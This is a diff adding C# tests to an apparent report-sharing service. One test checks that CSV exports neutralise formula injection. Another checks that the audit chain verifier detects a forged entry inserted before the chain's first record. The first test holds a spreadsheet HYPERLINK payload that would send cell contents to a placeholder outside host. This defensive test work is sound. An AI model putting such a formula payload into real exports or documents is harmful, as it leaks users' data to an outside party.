@@ -43,6 +43,12 @@ public abstract class SharingTests<TServer>(TServer server) : IClassFixture<TSer
         Assert.Equal(["audience"], problem.ErrorFields());
         var (_, report) = await client.GetJson($"/api/reports/{ids["amber+strict"]}");
         Assert.Equal("TLP:AMBER+STRICT", report.GetProperty("tlp").GetString());
+
+        // A narrative a spreadsheet would run as a formula goes out as text.
+        var (_, formula) = await client.PostJson("/api/reports", new Dictionary<string, object?>(Api.Fields(Api.Report(narrative: $"=HYPERLINK(\"http://x.invalid/?\"&A1,\"{tag}\")"))) { ["tlp"] = "clear" });
+        var exported = await (await client.GetAsync("/api/exports/reports.csv?audience=public&organization=JOC&from=2026-10-01T00:00:00Z")).Content.ReadAsStringAsync();
+        var line = exported.Split('\n').Single(l => l.StartsWith(Id(formula).ToString(), StringComparison.Ordinal));
+        Assert.Contains($",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"{tag}\"\")\",", line, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -484,6 +490,34 @@ public abstract class SharingTests<TServer>(TServer server) : IClassFixture<TSer
 
         var verification = await server.WithDbAsync(db => AuditVerifier.VerifyAsync(db, CancellationToken.None));
         Assert.True(verification.Intact, verification.Problem);
+
+        // An entry written straight into the store before the chain's first (a read the member never made) is found.
+        var forged = new AuditEntry
+        {
+            ChainIndex = -1,
+            At = DateTime.UtcNow,
+            MemberId = null,
+            Actor = "pref",
+            Action = AuditActions.Read,
+            Entity = "report",
+            EntityId = Id(report),
+            Classification = 0,
+            Detail = "{}",
+            PreviousHash = AuditChain.Genesis,
+        };
+        forged.Hash = AuditChain.Compute(forged);
+        await server.WithDbAsync(db => { db.Audit.Add(forged); return db.SaveChangesAsync(); });
+        try
+        {
+            var tampered = await server.WithDbAsync(db => AuditVerifier.VerifyAsync(db, CancellationToken.None));
+            Assert.False(tampered.Intact);
+            Assert.Equal(-1, tampered.BrokenAt);
+            Assert.Contains("precedes the chain's first entry", tampered.Problem);
+        }
+        finally
+        {
+            await server.WithDbAsync(db => db.Audit.Where(a => a.ChainIndex == -1).ExecuteDeleteAsync());
+        }
     }
 
     [Fact]
